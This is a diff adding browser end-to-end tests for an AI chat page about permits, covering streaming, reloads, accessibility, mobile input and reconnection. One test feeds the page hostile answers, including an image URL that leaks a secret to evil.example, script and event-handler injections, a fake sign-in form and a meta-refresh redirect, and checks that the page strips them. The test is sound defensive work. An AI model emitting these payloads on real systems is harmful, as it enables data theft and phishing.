@@ -1,0 +1,321 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import type { Page } from 'playwright-core'
+import type { HeldQuestion } from '../held-agent.ts'
+import { startServer, temporaryFolder } from '../server-process.ts'
+import { accessibilityFaults, ask, createSite, sidewaysScroll, type Site } from './browser.ts'
+
+let site: Site
+beforeAll(async () => {
+  site = await createSite({ SERVICE_NAME: 'Ask about permits' })
+})
+afterAll(() => site[Symbol.asyncDispose]())
+
+/** What stands in the conversation, as people read it. */
+const said = async (page: Page): Promise<string> => (await page.locator('#messages').innerText()).replace(/\s+/g, ' ')
+const focused = (page: Page): Promise<string> => page.evaluate(() => document.activeElement?.id ?? '')
+const until = (page: Page, text: string): Promise<void> => page.getByText(text).first().waitFor()
+
+/** Answers the next question whole. */
+async function answerNext(text: string): Promise<HeldQuestion> {
+  const question = await site.agent.asked()
+  question.say(text)
+  question.finish()
+  return question
+}
+
+describe('an answer', () => {
+  test('[W26][W27] appears while it is written, in blocks that are never written again', async () => {
+    const visitor = await site.visitor()
+    const page = await visitor.begin()
+    await ask(page, 'How do I apply?')
+    const question = await site.agent.asked()
+    await until(page, 'Finding an answer')
+    expect(await page.getByLabel('Your question').inputValue()).toBe('')
+    question.say('In **two ways**.\n\nOnl')
+    await until(page, 'Onl')
+    await page.locator('#messages strong').waitFor()
+    expect(await said(page)).toContain('In two ways. Onl The assistant is answering.')
+    await page.evaluate(() => document.querySelector('#messages strong')?.setAttribute('data-first', ''))
+    expect(await accessibilityFaults(page)).toEqual([])
+    question.say('ine, or by post.\n\n- one\n- two\n')
+    await until(page, 'ine, or by post.')
+    question.finish()
+    await until(page, 'This answer was written by AI and may be wrong.')
+    await page.locator('#messages li li').first().waitFor()
+    expect(await page.locator('strong[data-first]').count()).toBe(1)
+    expect(await said(page)).toContain('In two ways. Online, or by post. one two This answer')
+    expect(await page.locator('#announce').innerText()).toContain('Answer ready. 9 words.')
+    expect(await accessibilityFaults(page)).toEqual([])
+    expect(visitor.faults).toEqual([])
+    await visitor.context.close()
+  })
+
+  test('[W26] a reload in mid-answer, and a second tab, show the same and go on', async () => {
+    const visitor = await site.visitor()
+    const page = await visitor.begin()
+    await ask(page, 'Reload?')
+    const question = await site.agent.asked()
+    question.say('First part.\n\nSecond ')
+    await until(page, 'Second')
+    await page.reload()
+    const other = await visitor.tab(page.url())
+    await until(page, 'Second')
+    await until(other, 'Second')
+    question.say('part.\n\nThird.')
+    question.finish()
+    for (const one of [page, other]) await until(one, 'Third.')
+    for (const one of [page, other]) await until(one, 'This answer was written by AI')
+    const [here, there] = [await said(page), await said(other)]
+    expect(here).toBe(there)
+    expect(here.match(/First part\.|Second part\.|Third\./g)).toEqual(['First part.', 'Second part.', 'Third.'])
+    await page.reload()
+    await until(page, 'Third.')
+    expect(await said(page)).toBe(there)
+    await ask(other, 'From the other tab?')
+    await until(page, 'From the other tab?')
+    await answerNext('Seen.')
+    expect(visitor.faults).toEqual([])
+    await visitor.context.close()
+  })
+
+  test('[W26] two questions sent at once are both kept, in order, with their place', async () => {
+    const visitor = await site.visitor()
+    const page = await visitor.begin()
+    await ask(page, 'The first?')
+    const first = await site.agent.asked()
+    await page.getByLabel('Your question').fill('The second?')
+    await page.keyboard.press('Enter')
+    await until(page, 'There is 1 question before yours.')
+    first.say('Answer one.')
+    first.finish()
+    const second = await site.agent.asked()
+    second.say('Answer two.')
+    second.finish()
+    await until(page, 'Answer two.')
+    expect((await said(page)).match(/The first\?|Answer one\.|The second\?|Answer two\./g)).toEqual([
+      'The first?',
+      'Answer one.',
+      'The second?',
+      'Answer two.',
+    ])
+    await visitor.context.close()
+  })
+
+  test('[W28] a hostile answer reaches nobody and does nothing', async () => {
+    const visitor = await site.visitor()
+    const page = await visitor.begin()
+    await ask(page, 'Attack?')
+    const question = await site.agent.asked()
+    for (const text of [
+      '![x](https://evil.example/?d=SECRET)\n\n',
+      '<img src="https://evil.example/a" onerror="document.title=1"><svg onload=alert(1)>\n\n',
+      '<script>document.title="taken"</script><form action="https://evil.example"><button>Sign in</button></form>\n\n',
+      '<style>*{display:none}</style><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">\n\n',
+      '[a](javascript:alert(1)) [b](https://evil.example) <https://evil.example>\n\n',
+      'Last.',
+    ]) {
+      question.say(text)
+    }
+    question.finish()
+    await until(page, 'Last.')
+    await until(page, 'This answer was written by AI')
+    expect(await page.title()).toBe('Ask the assistant – Ask about permits')
+    expect(await page.locator('#messages').locator('img, svg, script, style, base, meta, button').count()).toBe(0)
+    expect(await page.locator('#messages a').allInnerTexts()).toEqual(['b (evil.example)'])
+    expect(visitor.faults).toEqual([])
+    await visitor.context.close()
+  })
+})
+
+describe('people', () => {
+  test('[W25] ask, stop and read on with the keyboard alone', async () => {
+    const visitor = await site.visitor()
+    const page = await visitor.begin()
+    await page.keyboard.press('Tab')
+    await page.keyboard.press('Tab')
+    await page.keyboard.press('Enter')
+    expect(await focused(page)).toBe('message')
+    await page.keyboard.type('One line')
+    await page.keyboard.press('Shift+Enter')
+    await page.keyboard.type('and another?')
+    await page.keyboard.press('Enter')
+    const question = await site.agent.asked()
+    expect(question.content).toBe('One line\nand another?')
+    expect(await focused(page)).toBe('message')
+    question.say('Half of it')
+    await until(page, 'Half of it')
+    await page.keyboard.press('Tab')
+    await page.keyboard.press('Tab')
+    expect(await focused(page)).toBe('stop')
+    await page.keyboard.press('Enter')
+    await question.ended
+    await until(page, 'You stopped this answer. It may not be complete.')
+    await page.getByRole('button', { name: 'Stop' }).waitFor({ state: 'hidden' })
+    expect(await page.evaluate(() => document.activeElement?.textContent)).toContain('Assistant')
+    await page.keyboard.press('Tab')
+    await page.keyboard.press('Enter')
+    expect((await answerNext('Once more.')).content).toBe('One line\nand another?')
+    await until(page, 'Once more.')
+    expect(visitor.faults).toEqual([])
+    await visitor.context.close()
+  })
+
+  test('[W25] finish a character with Enter, and on a touch screen begin a new line with it', async () => {
+    const typing = await site.visitor()
+    const page = await typing.begin()
+    const box = page.getByLabel('Your question')
+    await box.fill('にほん')
+    await box.dispatchEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true })
+    expect(await box.inputValue()).toBe('にほん')
+    await box.press('Enter')
+    expect((await answerNext('はい')).content).toBe('にほん')
+    await typing.context.close()
+    const touching = await site.visitor({ hasTouch: true, isMobile: true, viewport: { width: 390, height: 700 } })
+    const phone = await touching.begin()
+    await phone.getByLabel('Your question').fill('One')
+    await phone.getByLabel('Your question').press('Enter')
+    await phone.keyboard.type('two')
+    expect(await phone.getByLabel('Your question').inputValue()).toBe('One\ntwo')
+    await phone.getByRole('button', { name: 'Send' }).tap()
+    expect((await answerNext('Both.')).content).toBe('One\ntwo')
+    await until(phone, 'Both.')
+    expect(await phone.getByText('One two').isVisible()).toBe(true)
+    await touching.context.close()
+  })
+
+  test('[W25] on a small screen see what they sent, and its answer', async () => {
+    const visitor = await site.visitor({ viewport: { width: 320, height: 256 } })
+    const page = await visitor.begin()
+    await ask(page, 'Do I see this?')
+    await answerNext('And this?')
+    const message = page.locator('.app-message--answer')
+    await message.getByText('And this?').waitFor()
+    expect(await message.evaluate((element) => element.getBoundingClientRect().top < innerHeight)).toBe(true)
+    await visitor.context.close()
+  })
+
+  test('[W8][W25] are told what is wrong with a question, and taken to it', async () => {
+    const visitor = await site.visitor()
+    const page = await visitor.begin()
+    await page.getByRole('button', { name: 'Send' }).click()
+    await page.getByRole('heading', { name: 'There is a problem' }).waitFor()
+    expect(await page.title()).toMatch(/^Error: /)
+    expect(await page.evaluate(() => document.activeElement?.className)).toContain('govuk-error-summary')
+    expect(await accessibilityFaults(page)).toEqual([])
+    await page.getByRole('link', { name: 'Enter your question' }).click()
+    expect(await focused(page)).toBe('message')
+    await page.keyboard.type('x'.repeat(3))
+    await page.keyboard.press('Enter')
+    await answerNext('Better.')
+    await until(page, 'Better.')
+    expect(await page.title()).toBe('Ask the assistant – Ask about permits')
+    expect(await page.locator('.govuk-error-message:visible').count()).toBe(0)
+    await visitor.context.close()
+  })
+
+  test('[W24] have no sideways scrolling at 320 px, nor at 400% zoom, and can enlarge the text', async () => {
+    const visitor = await site.visitor({ viewport: { width: 320, height: 256 }, deviceScaleFactor: 4 })
+    const page = await visitor.begin()
+    await ask(page, `Wide ${'w'.repeat(400)}?`)
+    const question = await site.agent.asked()
+    question.say(
+      `| a | b | c |\n|---|---|---|\n| ${'long'.repeat(30)} | two | three |\n\n\`\`\`\n${'code'.repeat(60)}\n\`\`\`\n\n${'word'.repeat(100)}\n\nEnd.`,
+    )
+    question.finish()
+    await until(page, 'End.')
+    expect(await sidewaysScroll(page)).toBe(0)
+    expect(await accessibilityFaults(page)).toEqual([])
+    await visitor.context.close()
+  })
+
+  test('[W25] who read further up are not moved, and are told of what is new', async () => {
+    const visitor = await site.visitor({ viewport: { width: 800, height: 500 } })
+    const page = await visitor.begin()
+    await ask(page, 'Long?')
+    const first = await site.agent.asked()
+    first.say(Array.from({ length: 60 }, (_unused, index) => `Paragraph ${index}.`).join('\n\n'))
+    first.finish()
+    await until(page, 'Paragraph 59.')
+    await until(page, 'This answer was written by AI')
+    await ask(page, 'More?')
+    const second = await site.agent.asked()
+    await page.evaluate(() => scrollTo({ top: 300, behavior: 'instant' }))
+    second.say('Fresh words.\n\nAnd more.')
+    second.finish()
+    await page.getByRole('link', { name: 'New answer below' }).waitFor()
+    expect(await page.evaluate(() => scrollY)).toBe(300)
+    await page.getByRole('link', { name: 'New answer below' }).click()
+    expect(await page.evaluate(() => document.activeElement?.closest('li')?.textContent)).toContain('Fresh words.')
+    await visitor.context.close()
+  })
+})
+
+describe('when something is missing', () => {
+  test('[W27] without the script the page stays as the server wrote it, and works', async () => {
+    const visitor = await site.visitor()
+    await visitor.context.route('**/chat-*.js', (route) => route.abort())
+    const page = await visitor.begin()
+    const sent = ask(page, 'No script?')
+    const question = await site.agent.asked()
+    question.say('Answered.')
+    question.finish()
+    await sent
+    await until(page, 'Answered.')
+    expect(page.url()).toContain('?wait=')
+    await visitor.context.close()
+  })
+
+  test('[W27] where no live link ever opens, the form sends the question, once', async () => {
+    const visitor = await site.visitor()
+    await visitor.context.routeWebSocket('**/ws', (socket) => socket.close())
+    const page = await visitor.begin()
+    const before = site.agent.count
+    await ask(page, 'No link?')
+    const question = await site.agent.asked()
+    question.say('Answered.')
+    question.finish()
+    await page.waitForURL(/\?wait=/)
+    await until(page, 'Answered.')
+    expect(site.agent.count).toBe(before + 1)
+    await visitor.context.close()
+  })
+
+  test('[W20][W26] a server that dies and comes back loses nothing, and the page says both', async () => {
+    using folder = temporaryFolder()
+    const options = { dataDir: folder.path, agentUrl: site.agent.url }
+    const first = await startServer(options)
+    const visitor = await site.visitor({ baseURL: first.url })
+    const page = await visitor.begin()
+    await ask(page, 'Before?')
+    const question = await site.agent.asked()
+    question.say('Shown before.\n\nCut he')
+    await until(page, 'Cut he')
+    await first.kill('SIGKILL')
+    await until(page, 'The connection was lost. We are trying to reconnect.')
+    expect(await accessibilityFaults(page)).toEqual([])
+    await page.getByLabel('Your question').fill('While away?')
+    await page.keyboard.press('Enter')
+    await until(page, 'Not sent yet. Waiting for a connection.')
+    await using second = await startServer({ ...options, env: { PORT: new URL(first.url).port } })
+    expect(second.url).toBe(first.url)
+    const again = await site.agent.asked()
+    again.say('Whole.')
+    again.finish()
+    await until(page, 'You are connected again. Your conversation is up to date.')
+    const away = await site.agent.asked()
+    expect(away.content).toBe('While away?')
+    away.say('Kept.')
+    away.finish()
+    await until(page, 'Kept.')
+    expect((await said(page)).match(/Before\?|Shown before\.|Cut he|asked the assistant again|Whole\.|While away\?|Kept\./g)).toEqual([
+      'Before?',
+      'Shown before.',
+      'Cut he',
+      'asked the assistant again',
+      'Whole.',
+      'While away?',
+      'Kept.',
+    ])
+    await visitor.context.close()
+  })
+})
